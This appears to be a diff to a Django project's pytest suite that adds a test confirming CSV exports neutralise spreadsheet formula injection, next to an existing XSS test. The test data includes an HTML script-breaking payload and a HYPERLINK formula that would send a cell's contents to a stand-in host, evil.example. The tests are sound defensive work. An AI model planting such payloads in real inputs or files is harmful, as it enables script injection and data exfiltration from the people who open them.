@@ -118,16 +118,18 @@ def test_a_request_for_insights_only_queues_the_run_on_the_bulk_queue(
 
 
 HOSTILE_SEGMENT = "</script><img src=x onerror=alert(1)>"
+FORMULA_SEGMENT = '=HYPERLINK("https://evil.example/?"&A2,"Gold")'
 
 
 @pytest.fixture
 def hostile_segment(demo, admin, django_capture_on_commit_callbacks):
-    """A customer file names a tier with HTML in it; ten demo members take it as their segment."""
+    """A customer file names two tiers, one with HTML in it and one a formula; ten demo members take each."""
     from prosumo.community.imports import customer_import_create
     from prosumo.community.models import Member
 
-    emails = list(Member.objects.filter(role="member").order_by("pk").values_list("email", flat=True)[:10])
-    rows = "".join(f'C-{i},{email},"{HOSTILE_SEGMENT}",100,ES\n' for i, email in enumerate(emails))
+    emails = list(Member.objects.filter(role="member").order_by("pk").values_list("email", flat=True)[:20])
+    quoted = [HOSTILE_SEGMENT, FORMULA_SEGMENT.replace('"', '""')]
+    rows = "".join(f'C-{i},{email},"{quoted[i % 2]}",100,ES\n' for i, email in enumerate(emails))
     with django_capture_on_commit_callbacks(execute=True):
         job = customer_import_create(
             actor=admin, file_name="tiers.csv", data=("customer_id,email,tier,spend,country\n" + rows).encode()
@@ -135,6 +137,7 @@ def hostile_segment(demo, admin, django_capture_on_commit_callbacks):
     job.refresh_from_db()
     assert job.state == "done", job.message
     assert Member.objects.filter(segment__name=HOSTILE_SEGMENT).count() == 10
+    assert Member.objects.filter(segment__name=FORMULA_SEGMENT).count() == 10
     with django_capture_on_commit_callbacks(execute=True):
         insights_request(actor=admin)
     run = InsightRun.objects.get()
@@ -155,3 +158,29 @@ def test_a_segment_name_cannot_end_the_chart_data_script(hostile_segment, admin,
     assert len(specs) == len(hostile_segment.section("involvement")["charts"]) > 0
     assert [json.loads(s) for s in specs] == hostile_segment.section("involvement")["charts"]
     assert HOSTILE_SEGMENT in json.dumps([json.loads(s) for s in specs], ensure_ascii=False)
+
+
+def test_table_csv_cells_cannot_run_as_formulas(hostile_segment, admin, login):
+    import csv
+    import io
+
+    # given: an involvement table that names the segments
+    tables = hostile_segment.section("involvement")["tables"]
+    name, rows = next((n, r) for n, r in tables.items() if any(FORMULA_SEGMENT in r_.values() for r_ in r))
+    # when
+    response = login(admin).get(f"/staff/insights/{hostile_segment.pk}/involvement/{name}.csv")
+    # then: the formula is text behind a quote, quoted; numbers stay numbers; every row is there
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A2,""Gold"")"' in text
+    assert "\n=" not in text
+    assert ',"=' not in text
+    read = list(csv.reader(io.StringIO(text)))
+    assert read[0] == list(rows[0])
+
+    def read_back(value):
+        text = "" if value is None else str(value)
+        return "'" + text if isinstance(value, str) and text.startswith(("=", "+", "-", "@", "\t", "\r")) else text
+
+    expected = [[read_back(v) for v in row.values()] for row in rows]
+    assert read[1:] == expected
